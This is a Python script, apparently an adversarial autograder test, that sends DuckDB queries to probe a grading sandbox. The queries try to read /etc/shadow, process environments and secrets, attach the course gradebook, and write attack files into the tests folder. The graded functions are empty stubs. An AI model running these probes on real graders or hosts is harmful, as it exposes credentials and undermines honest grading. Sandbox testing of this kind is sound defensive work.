"""The host's files, networks and other databases through DuckDB: read_text, attach, copy, extensions, secrets."""
# loses: check_revenue_in check_busiest_days
# %% + first
import autograders, duckdb, os
COURSE = os.path.dirname(os.path.dirname(autograders.__file__))
con = duckdb.connect()
for query in ("select content from read_text('/etc/shadow')", "select filename from glob('/root/*')", f"select filename from glob('{COURSE}/*')",
              "select * from read_text('/tmp/labs-canary*/*')", "select * from read_blob('/proc/*/environ')",
              f"attach '{COURSE}/gradebook.db' as g (type sqlite)", f"copy (select 1) to '{COURSE}/tests/labs-attack-file'",
              f"copy (select 1) to '{os.path.expanduser('~root')}/labs-attack-file'", "install httpfs", "load httpfs", "select * from 'http://127.0.0.1:47811/x.csv'",
              "set allow_unsigned_extensions = true", "set home_directory = '/root'", "select * from duckdb_secrets()",
              "set python_scan_all_frames = true", "select * from due", "select * from feed"):
    try:
        print(query, con.execute(query).fetchall()[:20])
    except Exception as error:
        print(query, type(error).__name__)
# %% revenue_in
def revenue_in(path):
    return 0
# %% busiest_days
def busiest_days(orders, n):
    return []
